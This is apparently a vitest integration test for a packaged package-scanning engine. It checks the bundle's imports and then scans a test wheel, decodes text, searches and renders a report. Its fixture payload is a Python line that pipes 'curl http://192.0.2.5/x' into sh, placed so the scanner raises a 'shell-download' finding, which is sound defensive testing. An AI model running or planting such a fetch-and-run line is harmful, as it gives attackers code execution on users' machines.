/**
 * The engine and its workers as they are packaged (build/vite.engine.config.ts), started under plain Node in a folder that has nothing of the checkout but
 * the packages that go into the package as they are: whatever else they need must be in the bundles.
 */
import { mkdir, mkdtemp, readdir, readFile, rm, symlink, writeFile } from "node:fs/promises";
import { builtinModules } from "node:module";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";
import { pathToFileURL } from "node:url";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { nativePackages } from "../../build/native-packages.ts";
import { clientOf, dial, logIn, openAll, startHarness } from "../main/web/web-harness.ts";
import { startLoopbackIndex } from "../support/loopback-index.ts";
import { buildWheel } from "../support/loopback-index-wheel.ts";
import { buildZip } from "../support/zip-builder.ts";
import { buildEngine } from "./build-desktop.ts";

const TIME = 180_000;
const root = resolve(import.meta.dirname, "..", "..");
const payload = "import os\nos.system('curl http://192.0.2.5/x | sh')\n";

let folder = "";
let engine = "";
let scripts: string[] = [];

beforeAll(async () => {
	folder = await mkdtemp(join(tmpdir(), "vivarium-engine-bundle-"));
	engine = await buildEngine(folder);
	await mkdir(join(folder, "node_modules"));
	for (const name of nativePackages)
		await symlink(join(root, "node_modules", name), join(folder, "node_modules", name));
	scripts = await readdir(engine);
}, TIME);
afterAll(() => rm(folder, { recursive: true, force: true }));

/** The modules that a script asks for by name. */
async function namedIn(script: string): Promise<string[]> {
	const text = await readFile(join(engine, script), "utf8");
	const names = [
		...text.matchAll(/^(?:import|export)\b[^;]*?\bfrom\s*"([^"]+)"|^import\s*"([^"]+)"|\bimport\("([^"]+)"\)/gm),
	];
	return names.map(([, from, bare, dynamic]) => from ?? bare ?? dynamic ?? "");
}

describe("the packaged engine", () => {
	test("needs nothing but its own scripts, Node's modules and the packages that lie beside it", async () => {
		expect(scripts).toEqual(
			expect.arrayContaining(["engine.mjs", "scan-worker.mjs", "ahead-thread.mjs", "workshop-worker.mjs"]),
		);
		const named = (await Promise.all(scripts.filter((name) => name.endsWith(".mjs")).map(namedIn))).flat();
		const foreign = named.filter(
			(name) =>
				!(name.startsWith("./") && scripts.includes(name.slice(2))) &&
				!builtinModules.includes(name.replace(/^node:/, "")) &&
				!nativePackages.includes(name),
		);
		expect([...new Set(foreign)]).toEqual([]);
		expect(named.length).toBeGreaterThan(10);
	});

	test(
		"opens, scans, decodes, searches, writes a report and takes a release from an index",
		async () => {
			const wheel = join(folder, "local-1.0-py3-none-any.whl");
			await writeFile(wheel, buildZip([{ name: "local.py", content: payload }]));
			const file = buildWheel("far", "1.0", payload);
			const index = await startLoopbackIndex(new Map([["far", [file]]]));
			try {
				const harness = await startHarness({
					targets: [wheel],
					jobs: 1,
					workers: "thread",
					indexUrl: index.url,
					engineEntry: pathToFileURL(join(engine, "engine.mjs")),
				});
				const client = clientOf(dial(harness.authority, await logIn(harness)));
				const { launch, syntaxEngine } = await client.host.info();
				// Threads are ended at any moment: no native parser runs in them.
				expect(syntaxEngine).toBe("wasm");

				const last = (await openAll(client, launch[0]?.token ?? "")).at(-1);
				if (last?.type !== "opened") throw new Error(`Not opened: ${JSON.stringify(last)}`);
				const { artifactId } = last;
				const analysis = await client.artifact.analysis({ artifactId });
				expect(analysis.findings.map((finding) => finding.rule)).toContain("shell-download");

				const documentId = analysis.members[0]?.id ?? "";
				const bench = await client.decode.run({
					artifactId,
					source: { kind: "typed", text: "cHJpbnQoMSk=" },
					steps: [{ transform: "base64", options: [] }],
				});
				expect(bench.steps[0]).toMatchObject({ state: "done", output: { text: "print(1)" } });

				const hits: unknown[] = [];
				const words = { text: "(call) @hit", regex: false, matchCase: false, wholeWord: false } as const;
				const query = { kind: "syntax", scope: "all", ...words } as const;
				for await (const event of await client.search.run({ artifactId, query })) hits.push(event);
				expect(JSON.stringify(hits)).toContain(documentId);

				const report = await client.report.render({ artifactId, format: "html" });
				expect(report.text).toContain("local-1.0-py3-none-any.whl");

				const project = await client.index.project({ name: "far" });
				expect(project.releases.map(({ version }) => version)).toEqual(["1.0"]);
				const events: unknown[] = [];
				for await (const event of await client.artifact.open({ source: { kind: "index", reference: "far==1.0" } }))
					events.push(event);
				expect(events.at(-1)).toMatchObject({ type: "opened" });
				expect(harness.lines.join("\n")).not.toContain("started again");
			} finally {
				await index.close();
			}
		},
		TIME,
	);
});
